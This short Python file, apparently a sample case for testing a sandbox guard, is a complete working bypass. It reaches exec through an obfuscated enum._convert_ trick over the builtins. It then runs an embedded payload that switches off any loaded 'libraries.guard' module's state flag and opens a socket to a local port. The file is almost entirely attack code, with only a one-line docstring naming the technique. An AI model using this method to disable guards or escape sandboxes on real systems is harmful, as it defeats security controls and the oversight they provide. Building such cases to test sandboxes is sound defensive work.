"""connection: the socket is got through an enumeration of the builtins."""

import enum
import functools

CODE = """
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
__import__("socket").create_connection(("127.0.0.1", 49151)).close()
"""


class Kind(enum.Enum):
    pass


run = getattr(Kind._convert_("Found", "builtins", lambda name: name == "exec"), "exec").value
x = functools.cache(run)(CODE)
